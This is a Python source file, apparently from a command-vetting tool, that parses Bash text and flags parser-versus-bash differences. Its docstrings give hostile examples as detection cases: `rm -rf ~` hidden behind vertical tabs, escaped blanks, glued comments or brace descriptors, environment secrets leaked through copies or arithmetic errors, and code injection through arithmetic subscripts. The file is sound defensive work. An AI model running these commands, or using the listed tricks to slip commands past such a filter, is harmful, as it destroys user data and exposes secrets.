    ``x{a,b{c,d}}y`` → ``xay``, ``xbcy``, ``xbdy``. None for a sequence (``{a..z}``) or more
    than `_MAX_BRACE_WORDS` words."""
    out: list[tuple[str, list[bool]]] = []
    todo = [(text, flags)]
    while todo:
        t, f = todo.pop()
        found = _brace_at(t, f)
        if found is None:
            out.append((t, f))
        elif not found:
            return None
        else:
            bounds = found
            start, end = bounds[0], bounds[-1]
            alts = []
            for k in range(len(bounds) - 1):
                a, b = bounds[k], bounds[k + 1]
                alts.append(
                    (t[:start] + t[a + 1 : b] + t[end + 1 :], f[:start] + f[a + 1 : b] + f[end + 1 :])
                )
            todo.extend(reversed(alts))
        if len(out) + len(todo) > _MAX_BRACE_WORDS:
            return None
    return out


def _brace_at(t: str, f: list[bool]) -> list[int] | None:
    """The first brace expansion of `t`: where its `{`, top-level `,`s and `}` are; None when
    there is none; [] for a sequence (`{1..9}`), which the gate does not expand."""
    i = 0
    while i < len(t):
        if t[i] == "{" and f[i] and not (i > 0 and t[i - 1] == "$" and f[i - 1]):
            depth, commas, j = 0, [], i + 1
            while j < len(t):
                if f[j] and t[j] == "{":
                    depth += 1
                elif f[j] and t[j] == "}":
                    if depth == 0:
                        break
                    depth -= 1
                elif f[j] and t[j] == "," and depth == 0:
                    commas.append(j)
                j += 1
            if j < len(t) and commas:
                return [i, *commas, j]
            if j < len(t) and ".." in t[i + 1 : j]:
                return []
        i += 1
    return None


def _dq_unescape(raw: str) -> str:
    # Inside double quotes a backslash only escapes $ ` " \ and newline.
    out: list[str] = []
    i = 0
    while i < len(raw):
        ch = raw[i]
        if ch == "\\" and i + 1 < len(raw) and raw[i + 1] in '$`"\\\n':
            if raw[i + 1] != "\n":
                out.append(raw[i + 1])
            i += 2
            continue
        out.append(ch)
        i += 1
    return "".join(out)


_C_ESCAPES = {
    "n": "\n",
    "t": "\t",
    "r": "\r",
    "a": "\a",
    "b": "\b",
    "e": "\x1b",
    "E": "\x1b",
    "f": "\f",
    "v": "\v",
    "\\": "\\",
    "'": "'",
    '"': '"',
    "?": "?",
}


def _ansi_c(body: str) -> str:
    """Decode the inside of `$'...'` the way bash does (enough to see the real word)."""
    out: list[str] = []
    i = 0
    while i < len(body):
        ch = body[i]
        if ch != "\\" or i + 1 >= len(body):
            out.append(ch)
            i += 1
            continue
        nxt = body[i + 1]
        if nxt in _C_ESCAPES:
            out.append(_C_ESCAPES[nxt])
            i += 2
        elif nxt == "x":
            digits = _take(body, i + 2, "0123456789abcdefABCDEF", 2)
            out.append(chr(int(digits, 16)) if digits else "\\x")
            i += 2 + len(digits)
        elif nxt in "uU":
            digits = _take(body, i + 2, "0123456789abcdefABCDEF", 4 if nxt == "u" else 8)
            try:
                out.append(chr(int(digits, 16)) if digits else "\\" + nxt)
            except (ValueError, OverflowError):
                out.append("\ufffd")
            i += 2 + len(digits)
        elif nxt in "01234567":
            digits = _take(body, i + 1, "01234567", 3)
            out.append(chr(int(digits, 8) & 0xFF))
            i += 1 + len(digits)
        elif nxt == "c" and i + 2 < len(body):
            out.append(chr(ord(body[i + 2]) & 0x1F))
            i += 3
        else:
            out.append("\\" + nxt)
            i += 2
    return "".join(out)


def _take(text: str, start: int, alphabet: str, limit: int) -> str:
    end = start
    while end < len(text) and end - start < limit and text[end] in alphabet:
        end += 1
    return text[start:end]


# The characters of a plain word: nothing in it is quoted, expanded, globbed, braced,
# tilde-expanded, commented out or an operator, so the word is its own text.
_PLAIN_CHARS = frozenset(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:=@%+,-"
)
_PLAIN_TEXT = _PLAIN_CHARS | {" ", "\t", "|"}
_PLAIN_QUOTED = _PLAIN_TEXT | {"\0"}
# A command name of other characters (`a=1` is an assignment; tree-sitter-bash reads
# `user@host`, `a%b`, `a+:` in that place as an error) goes through the tree.
_NAME_CHARS = _PLAIN_CHARS - {"=", "%", "@", ":", ",", "+"}
# The words tree-sitter-bash reads as a keyword or a declaration somewhere, and bash's other
# reserved words: a text that holds one goes through the tree.
# Reserved words that only continue a compound command: as a command's name (unquoted) they
# are a syntax error to bash (`_Walker.closer`).
_CLOSERS = frozenset({"do", "done", "then", "elif", "else", "fi", "esac"})
_KEYWORDS = frozenset(
    {
        "case", "coproc", "declare", "do", "done", "elif", "else", "esac", "export", "fi",
        "for", "function", "if", "in", "local", "readonly", "select", "then", "time",
        "typeset", "unset", "unsetenv", "until", "while",
    }
)  # fmt: skip


def _plain(text: str, where: str) -> Script | None:
    """The `Script` of a text that is one simple command of plain words or a pipeline of
    them (`git status`, `ls -la src | sort -r`, `jq -r '.a | .b' f`), without the tree;
    None for any other text.

    The walk of the tree gives such a text exactly this: one `Command` per stage, each
    word as bash reads it (the plain characters and the insides of its single-quoted
    parts: not dynamic, no glob), the stage's text without its blanks, every stage after
    the first fed by the pipe, no problem, no `&&` chain. An empty stage (`a || b`), a
    command name of other characters than `_NAME_CHARS` or `-`, a keyword anywhere, `==`
    outside quotes, an unclosed quote and a quote holding anything but printable ASCII and
    blanks take the tree.
    `tests/test_shell_walk.py` compares the two over the corpora, over generated texts and
    over every word of up to two plain characters in every place.
    """
    source = text
    quoted: list[str] = []
    if "'" in text:
        # The text outside quotes, each quote's place marked by a NUL (not a plain char).
        pieces = text.split("'")
        if len(pieces) % 2 == 0 or "\0" in text:
            return None  # an unclosed quote
        quoted = pieces[1::2]
        for inside in quoted:
            if not (inside.isascii() and inside.isprintable()):
                return None
        text = "\0".join(pieces[0::2])
    if not (_PLAIN_QUOTED if quoted else _PLAIN_TEXT).issuperset(text) or "==" in text:
        return None  # tree-sitter-bash reads a word that starts with `==` as an operator
    commands = []
    piped = False
    at = 0  # the index in `quoted` of the next quote
    for stage in text.split("|"):
        words = stage.split()
        if (
            not words
            or not _NAME_CHARS.issuperset(words[0])
            or words[0] == "-"  # `- x=1`: tree-sitter leaves the `-` out (`_dropped_dash`)
            or not _KEYWORDS.isdisjoint(words)
        ):
            return None
        written = stage.strip()
        if quoted and "\0" in written:
            first = at
            for i, word in enumerate(words):
                if "\0" in word:
                    parts = word.split("\0")
                    words[i] = "".join(_join(parts, quoted[at : at + len(parts) - 1]))
                    at += len(parts) - 1
            parts = written.split("\0")
            written = "".join(_join(parts, [f"'{q}'" for q in quoted[first:at]]))
        commands.append(static_command(words, where, written, piped, source))
        piped = True
    return _script(tuple(commands))


_SCRIPT_TWIN: Any = twin_of(Script)  # see `records.twin_of`


def _script(commands: tuple[Command, ...]) -> Script:
    """`Script(commands, ())`: a plain text's script, made as its twin (hot)."""
    if _SCRIPT_TWIN is None:
        return Script(commands, ())
    script = _SCRIPT_TWIN()
    script.commands = commands
    script.problems = ()
    script.and_chain = False
    script.assigned = ()
    script.__class__ = Script
    return script  # type: ignore[no-any-return]


def _join(parts: list[str], between: list[str]) -> list[str]:
    """`parts` with `between[i]` between `parts[i]` and `parts[i + 1]`."""
    out = [parts[0]]
    for part, inside in zip(parts[1:], between, strict=True):
        out += (inside, part)
    return out


def parse(
    text: str, home: str | Callable[[], str], where: str = "top", depth: int = 0
) -> Script:
    """Every simple command of a Bash text and every problem, never raising on bad input.

    `home` is what `~` and `$HOME` expand to, or a function that gives it, called only if
    a word needs it (the host resolves the home directory only then). `depth` counts
    shells inside shells (here-documents fed to ``bash``); the host uses the same limit
    for ``bash -c``.
    """
    plain = _plain(text, where)
    if plain is not None:
        return plain
    return _walk_text(text, home, where, depth)


def _walk_text(
    text: str,
    home: str | Callable[[], str],
    where: str = "top",
    depth: int = 0,
    *,
    sliced: bool = True,
    negations: bool = True,
) -> Script:
    """`parse` by the tree alone: no plain-text fast path at this level. `sliced=False`
    decodes each node's bytes instead of slicing an ASCII text (the tests' reference);
    `negations=False` takes the parser's reading of `! {` alone (`_both_readings`)."""
    text, src, tree = _prepared(text)
    if negations:
        unnegated = _unnegated_text(src, tree)
        if unnegated is not None:
            return _both_readings(text, unnegated, home, where, depth, sliced=sliced)
    walker = _Walker(src, home, depth, text if sliced and text.isascii() else None, text)
    root = tree.root_node
    walker.walk(root)
    if walker.resolved:
        from gatekeeper.shell.loopvars import sets_names

        if sets_names(walker.commands):  # `printf -v "$n" …` may set a loop variable
            walker = _Walker(src, home, depth, walker.chars, text)
            walker.loops = None
            walker.walk(root)
    if not root.has_error and (b"- " in src or b"-\t" in src or b"-\n" in src):
        _dropped_dash(root, src, walker)
    if b"\v" in src or b"\f" in src or b"\r" in src:
        _parser_blanks(root, src, walker)
    if b"\\ " in src or b"\\\t" in src or b"\\\n" in src:
        _escaped_blanks(root, src, walker)
    if b"#" in src:
        _glued_comments(root, src, walker)
    if walker.copies or (b"$" in src and (b"=" in src or b"-n" in src)):
        _secret_copies(walker)
        if b"[" in src:
            _runtime_subscripts(walker)
    bare = src  # `r''ead x`, `\read x` are the builtin read
    if b"'" in src or b'"' in src or b"\\" in src:
        bare = src.replace(b"'", b"").replace(b'"', b"").replace(b"\\", b"")
    if b"$(" in bare or b"`" in bare or b"read" in bare or b"for" in bare or b"mapfile" in bare:
        _runtime_arithmetic(root, src, walker)
    if walker.copies or src.count(b"=") > 1:
        _assigning_values(walker, text)
    if b"((" in src or b"$[" in src or b"[[" in src or b"]=" in src or (
        b"${" in src and (b":" in src or b"[" in src)
    ):
        _arithmetic_secrets(root, src, walker)
    if root.has_error and not walker.problems and not _only_herestring_quirk(root, src):
        # A MISSING token deep inside a word (`ls &&`) that the walk did not meet as a node.
        walker.problem("GK-SHELL-001", "the command is incomplete (a token is missing)", root)
    commands = walker.commands
    if where != "top":
        commands = [_relabel(c, where) for c in commands]
    assigned = tuple(dict.fromkeys(walker.copies))
    return Script(tuple(commands), tuple(walker.problems), _is_and_chain(root), assigned)


def _brace_descriptors(text: str, src: bytes, tree: Tree) -> tuple[str, bytes, Tree]:
    """`{fd}>/dev/null rm -rf ~` read as `   9>/dev/null rm -rf ~` when that parses
    (`shell.bracefd`): bash runs rm there, which the parser took for an error."""
    from gatekeeper.shell.bracefd import numbered

    fixed = numbered(text, tree.root_node)
    if fixed is not None:
        fixed_src = fixed.encode("utf-8", "surrogateescape")
        fixed_tree = tree_of(fixed_src)
        if not fixed_tree.root_node.has_error:
            return fixed, fixed_src, fixed_tree
    return text, src, tree


def _reserved_time(text: str, src: bytes, tree: Tree) -> tuple[str, bytes, Tree]:
    """`time -p cd x` read as `        cd x` (`shell.timeword`): bash's reserved word times the
    pipeline and runs it in this shell, which the parser took for a program `time`."""
    from gatekeeper.shell.timeword import untimed

    fixed = untimed(text, src, tree.root_node)
    if fixed is None:
        return text, src, tree
    fixed_src = fixed.encode("ascii")
    return fixed, fixed_src, tree_of(fixed_src)


def _assigning_values(walker: _Walker, text: str) -> None:
    """A value that assigns PATH or another variable that runs code once bash evaluates it
    as arithmetic (`x='PATH=1'; (( x ))`: see `shell.arith.assigning_value`)."""
    values = [value for _, value in walker.copies if "=" in value]
    for command in walker.commands:
        values += [w.text for _, w in command.assignments if "=" in w.text]
        if command.name in ("declare", "typeset", "local", "export", "readonly"):
            values += [w.text.partition("=")[2] for w in command.words[1:] if "=" in w.text]
    values = [v for v in values if "=" in v]
    if not values:
        return
    from gatekeeper.shell.arith import assigning_value

    value = assigning_value(values, text)
    if value:
        walker.problems.append(
            Problem(
                "GK-ENV-001",
                f"the value `{value[:40]}` sets a variable that runs code when bash evaluates "
                "it as arithmetic",
                value[:200],
            )
        )


def _secret_copies(walker: _Walker) -> None:
    """A command that uses a copy of a secret of the environment (`x=$GITHUB_TOKEN; echo
    $x`): GK-ENV-002 sees only the copy's name there (see `shell.secretflow`)."""
    from gatekeeper.shell.secretflow import used_copies

    for copy, text in used_copies(walker.commands, walker.copies):
        walker.problems.append(
            Problem("GK-ENV-002", f"uses {copy}, a copy of a secret of the environment", text)
        )


def _runtime_subscripts(walker: _Walker) -> None:
    """A subscript that expands a variable this call set to a possible command, where bash
    evaluates it again (`a='$(cmd)'; test -v "b[$a]"`: see `shell.subscripts`)."""
    from gatekeeper.shell.subscripts import runtime_subscripts

    for word, text in runtime_subscripts(walker.commands, walker.copies):
        reason = f"`{word[:60]}` expands a value set here into a subscript bash evaluates"
        walker.problems.append(Problem("GK-BASH-006", reason, text))


def _runtime_arithmetic(root: Node, src: bytes, walker: _Walker) -> None:
    """Text known only at run time that bash evaluates as arithmetic (`x=$(cat f); [[ $x
    -eq 0 ]]` runs a `a[$(cmd)]` that f holds: see `shell.arith`)."""
    from gatekeeper.shell.arith import runtime_arithmetic

    for reason, node in runtime_arithmetic(root, src):
        walker.problem("GK-BASH-006", reason, node)


def _arithmetic_secrets(root: Node, src: bytes, walker: _Walker) -> None:
    """A secret of the environment named in arithmetic, whose value bash prints when it
    is no expression (`echo $(( DATABASE_URL ))`: see `shell.arithsecrets`)."""
    from gatekeeper.shell.arithsecrets import arithmetic_secrets

    for name, node in arithmetic_secrets(root, src):
        reason = f"bash evaluates {name} as arithmetic, and prints its value in the error"
        walker.problem("GK-ENV-002", reason, node)


def _dropped_dash(root: Node, src: bytes, walker: _Walker) -> None:
    """tree-sitter-bash leaves out a lone `-` word before a word shaped like an assignment
    (`- x=1`, `ls && - x=1 y`, `x=1 - y=2 ls`) or a lone `$` (`cat - $`), with no error in
    the tree: bash runs that `-` as the command. A `-` before a blank (or at the end) that
    no leaf of the tree holds is a problem."""
    at = src.find(b"-")
    while at != -1:
        if src[at + 1 : at + 2] in (b" ", b"\t", b"\n", b"\r", b""):
            node = root.descendant_for_byte_range(at, at + 1)
            if node is not None and node.child_count:
                reason = "the parser left out a `-` word of the command line"
                walker.problem("GK-SHELL-001", reason, node)
                return
        at = src.find(b"-", at + 1)


def _parser_blanks(root: Node, src: bytes, walker: _Walker) -> None:
    """tree-sitter-bash reads a vertical tab, a form feed and a carriage return as blanks;
    bash reads them as characters of a word (it separates words by spaces and tabs only).
    So `ls<VT># ; rm -rf ~` is `ls` and a comment to the parser, and to bash a command
    `ls<VT>#` followed by `rm -rf ~`. Such a byte outside a quote, a comment and a
    here-document (where the parser keeps it in a leaf) is a problem."""
    for blank in (b"\v", b"\f", b"\r"):
        at = src.find(blank)
        while at != -1:
            node = root.descendant_for_byte_range(at, at + 1)
            if node is not None and node.child_count and node.type != "heredoc_body":
                reason = (
                    "a vertical tab, form feed or carriage return outside quotes: bash reads "
                    "it as part of a word, the parser as a blank"
                )
                walker.problem("GK-SHELL-001", reason, node)
                return
            at = src.find(blank, at + 1)


_BOUNDARY = b" \t\n;&|()<>"  # bytes that end a word in bash (and `b""`: the text's ends)


def _escaped_blanks(root: Node, src: bytes, walker: _Walker) -> None:
    """A backslash before a space, a tab or a newline that no leaf of the tree holds.
    tree-sitter-bash skips `\\ ` and `\\<TAB>` there as blanks; bash keeps the escaped blank
    in a word, so in `ls \\ #; rm -rf ~` the `#` starts no comment. `\\<NEWLINE>` vanishes in
    bash and joins the text around it into one word (`ls\\<NEWLINE>#; rm -rf ~` runs `ls#`,
    then rm), where the parser sees two; between blanks or operators (`git log \\<NEWLINE>
    -n 3`, `a &&\\<NEWLINE>b`) the two read it alike."""
    for pair in (b"\\ ", b"\\\t", b"\\\n"):
        at = src.find(pair)
        while at != -1:
            node = root.descendant_for_byte_range(at, at + 1)
            if node is not None and node.child_count and node.type != "heredoc_body":
                before, after = src[at - 1 : at] if at else b"", src[at + 2 : at + 3]
                if pair != b"\\\n" or (before not in _BOUNDARY and after not in _BOUNDARY):
                    reason = "an escaped blank or a line continuation the parser reads otherwise"
                    walker.problem("GK-SHELL-001", reason + " than bash", node)
                    return
            at = src.find(pair, at + 1)


def _glued_comments(root: Node, src: bytes, walker: _Walker) -> None:
    """A comment of the tree whose `#` follows a word without a blank. bash starts a comment
    only at the start of a word: `[ -f x ]#; rm -rf ~` is `[ -f x ]#` (an error) and then
    rm, `x=(a)#; rm -rf ~` as well, where the parser closed the test (or the array) and
    read a comment."""
    at = src.find(b"#")
    while at != -1:
        if at and src[at - 1 : at] not in b" \t\n;&|":
            node = root.descendant_for_byte_range(at, at + 1)
            if node is not None and node.type == "comment" and node.start_byte == at:
                reason = "a `#` glued to a word starts a comment for the parser, not for bash"
                walker.problem("GK-SHELL-001", reason, node)
                return
        at = src.find(b"#", at + 1)


def _only_herestring_quirk(root: Node, src: bytes) -> bool:
    """True when every ERROR in the tree is the `<<` of a split `<<<` (see `redirected`).
    The text is sliced from `src`, never `Node.text` (see `_descriptor_of`)."""
    todo = [root]
    while todo:
        node = todo.pop()
        for i, child in enumerate(node.children):
            if child.is_missing:
                return False
            if child.type == "ERROR":
                if not (
                    node.type == "redirected_statement"
                    and src[child.start_byte : child.end_byte] == b"<<"
                    and _next_is_input_redirect(node, i)
                ):
                    return False
            elif child.has_error:
                todo.append(child)
    return True


def _is_and_chain(root: Node) -> bool:
    statements = [c for c in root.children if c.type != "comment"]
    if len(statements) != 1 or statements[0].type != "list":
        return False
    todo = [statements[0]]
    while todo:
        node = todo.pop()
        for child in node.children:
            if not child.is_named and child.type != "&&":
                return False
            if child.type == "list":
                todo.append(child)
    first = statements[0]
    while first.type == "list":
        first = first.named_children[0]
    return first.type == "command"


def _relabel(command: Command, where: str) -> Command:
    label = where if command.where == "top" else f"{where}, {command.where}"
    return Command(
        command.words,
        command.assignments,
        command.redirects,
        label,
        command.text,
        command.stdin_piped,
        command.source,
    )
